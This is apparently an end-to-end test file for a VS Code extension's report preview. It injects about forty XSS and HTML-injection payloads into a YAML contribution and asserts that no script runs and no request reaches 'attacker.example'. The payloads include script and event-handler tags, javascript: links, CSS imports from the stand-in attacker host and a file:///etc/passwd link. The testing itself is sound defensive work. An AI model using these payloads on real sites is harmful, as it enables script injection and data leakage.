import assert from 'node:assert/strict';
import { poll } from '../../scripts/lib/poll.ts';
import { Preview } from './preview-page.ts';
import { Session, screenshot } from './session.ts';
import type { Workbench } from './workbench.ts';

/** Nothing may ever be asked of this address. */
const outside = 'attacker.example';

/** Our own cases of what the public collections try: each would run, load or lead somewhere in a careless page. */
const payloads: readonly string[] = [
  // raw elements and event attributes
  '<script>alert(1)</script>',
  `<script src="https://${outside}/a.js"></script>`,
  `<img src="https://${outside}/b.png" onerror="alert(1)">`,
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)><summary>more</summary></details>',
  '<input autofocus onfocus=alert(1)>',
  `<form action="https://${outside}/form"><button>Send</button></form>`,
  `<iframe srcdoc="<script>alert(1)</script>"></iframe><iframe src="https://${outside}/c"></iframe>`,
  `<object data="https://${outside}/d"></object><embed src="https://${outside}/e">`,
  `<meta http-equiv="refresh" content="0; url=https://${outside}/f"><base href="https://${outside}/">`,
  // SVG, MathML, CSS
  '<svg onload=alert(1)><script>alert(1)</script></svg>',
  `<svg><image href="https://${outside}/g.svg"/><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>`,
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  `<style>@import "https://${outside}/h.css"; * { background: url(https://${outside}/i.png) }</style>`,
  `<p style="background-image: url('https://${outside}/j.png'); position: fixed; inset: 0">over everything</p>`,
  `<link rel="stylesheet" href="https://${outside}/k.css">`,
  // links
  '[go](javascript:alert(1))',
  '[go](JaVa\tScRiPt:alert(1))',
  '[go](&#x6A;avascript&colon;alert(1))',
  '[go](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[go](vbscript:alert(1))',
  '[go](command:workbench.action.closeWindow)',
  '[go](file:///etc/passwd)',
  '[go][ref]\n\n[ref]: javascript:alert(1)',
  '<javascript:alert(1)>',
  // images
  `![picture](https://${outside}/l.png)`,
  `![picture](https://${outside}/m.png" onerror="alert(1))`,
  '![picture](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+)',
  // out of attributes, templates, comments and scripts
  '"><img src=x onerror=alert(1)>',
  "' onmouseover='alert(1)' x='",
  '</p></div></main></body><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</template><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<![CDATA[><script>alert(1)</script>]]>',
  // entities
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  // names that clobber
  '<a id="page"></a><a id="note" name="note"></a><form id="acquireVsCodeApi"><input name="postMessage"></form>',
  // code, tables, footnotes, references
  '```html"><script>\n<script>alert(1)</script>\n```',
  '| <img src=x onerror=alert(1)> | b |\n|---|---|\n| [go](javascript:alert(1)) | c |',
  'note[^x]\n\n[^x]: <img src=x onerror=alert(1)>',
  '{{"><script>alert(1)</script>}} [@"><img src=x onerror=alert(1)>]',
];

/** The payloads in every place of a contribution that a report shows. */
function contribution(): string {
  const block = (text: string, indent: string): string =>
    text
      .split('\n')
      .map((line) => (line ? indent + line : ''))
      .join('\n');
  const quoted = (text: string): string => JSON.stringify(text);
  const [first = '', second = ''] = payloads;
  return [
    'study: emn-2024-1',
    'country: XC',
    'status: draft',
    'contact:',
    `  organisation: ${quoted(payloads[2] ?? '')}`,
    `  email: ${quoted('x@y.example" onclick="alert(1)')}`,
    'summary: |',
    '  The end of the payloads is here.',
    '',
    payloads.map((text) => block(text, '  ')).join('\n\n'),
    'answers:',
    '  Q1:',
    '    narrative: |',
    payloads.map((text) => block(`- ${text.replaceAll('\n', '\n  ')}`, '      ')).join('\n'),
    `    actors: [${quoted(first)}, ${quoted(second)}]`,
    `    programmes: [${quoted(payloads[10] ?? '')}]`,
    '  Q2:',
    `    answer: ${quoted(first)}`,
    '    narrative: |',
    '      [A page](https://emn.example/page) and [a letter](mailto:a@emn.example).',
    `  ${quoted('"><script>alert(1)</script>')}:`,
    `    narrative: ${quoted(payloads[28] ?? '')}`,
    'facts:',
    `  f: { value: ${quoted(first)}, unit: ${quoted(second)} }`,
    'sources:',
    `  s: { title: ${quoted(first)}, author: ${quoted(payloads[28] ?? '')}, url: "javascript:alert(1)" }`,
    '',
  ].join('\n');
}

describe('the safety of the report preview', () => {
  const session = new Session();
  let vscode: Workbench;
  let preview: Preview;
  const alarms: string[] = [];

  before(async () => {
    vscode = await session.start({ files: { 'payloads.emn.yaml': harmless } });
    preview = new Preview(vscode);
    const { page } = vscode;
    page.context().on('request', (request) => {
      if (request.url().includes(outside)) alarms.push(`request: ${request.url()}`);
    });
    page.on('dialog', (dialog) => {
      alarms.push(`script: ${dialog.message()}`);
      void dialog.dismiss();
    });
    await vscode.open('payloads.emn.yaml');
    await vscode.status(/EMN \d/).waitFor();
    await preview.open('Nothing bad yet.');
    await page.exposeFunction('emnViolation', (what: string) => alarms.push(what));
    await preview.html.evaluate((html) => {
      html.ownerDocument.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI }) => {
        const tell = globalThis as unknown as { emnViolation(what: string): void };
        tell.emnViolation(`violation: ${violatedDirective} ${blockedURI}`);
      });
    });
  });
  after(async () => {
    await vscode.page.screenshot({ path: screenshot('the-safety-of-the-report-preview') });
    await session.stop();
  });

  it('the watch itself sees what must not be', async () => {
    await preview.html.evaluate((html, host) => {
      const image = html.ownerDocument.createElement('img');
      image.src = `https://${host}/watch.png`;
      html.ownerDocument.body.append(image);
      image.remove();
    }, outside);
    await poll('the watch sees it', 30, async () => alarms.length >= 2);
    const address = `https://${outside}/watch.png`;
    assert.deepEqual(alarms.toSorted(), [`request: ${address}`, `violation: img-src ${address}`]);
    alarms.length = 0;
    // From here on the page is what somebody sent.
    await session.write('payloads.emn.yaml', contribution());
    await preview.shows('The end of the payloads is here.');
    await preview.shows('A page');
  });

  it('nothing in a narrative becomes more than text', async () => {
    const found = await preview.html.evaluate((html) => {
      const page = html.querySelector('#page') as HTMLElement;
      const forbidden =
        'script, style, link, meta, base, iframe, object, embed, img, svg, math, form, input, details, template';
      const events = [...page.querySelectorAll('*')].filter(({ attributes }) =>
        [...attributes].some(({ name }) => /^on|^style$|^srcdoc$/i.test(name)),
      );
      const links = [...page.querySelectorAll('a')].map((link) => link.getAttribute('href') ?? '');
      const twice = (id: string) => html.querySelectorAll(`[id="${id}"]`).length;
      return {
        forbidden: [...page.querySelectorAll(forbidden)].map(({ outerHTML }) => outerHTML),
        events: events.map(({ outerHTML }) => outerHTML),
        links: links.filter((address) => !/^(#|https:\/\/|mailto:)/.test(address)),
        ids: [twice('page'), twice('note')],
      };
    });
    assert.deepEqual(found, { forbidden: [], events: [], links: [], ids: [1, 1] });
    await preview.find('<script>alert(1)</script>').waitFor();
  });

  it('nothing runs and nothing is asked of the outside, also when the page is read, pointed at, clicked and patched', async () => {
    for (const text of ['go', 'picture', 'over everything', 'onmouseover']) {
      const place = preview.find(text);
      await place.scrollIntoViewIfNeeded();
      await place.hover();
      if (text === 'go') await place.click();
    }
    await vscode.toText();
    await vscode.goToEndOf(8);
    await vscode.type(' <img src=x onerror=alert(1)> Typed after the payloads.');
    await preview.shows('Typed after the payloads.');
    assert.deepEqual(alarms, []);
  });

  it('links to pages on the web are opened by VS Code, and only those', async () => {
    const opened: string[] = [];
    await vscode.page.context().route('https://emn.example/**', (route) => {
      opened.push(route.request().url());
      return route.abort();
    });
    await preview.find('A page').click();
    await poll('the page is opened', 30, async () => opened.length > 0);
    assert.deepEqual(opened, ['https://emn.example/page']);
    await preview.shows('A page');
    assert.deepEqual(alarms, []);
  });
});

const harmless = 'study: emn-2024-1\ncountry: XC\nsummary: Nothing bad yet.\n';
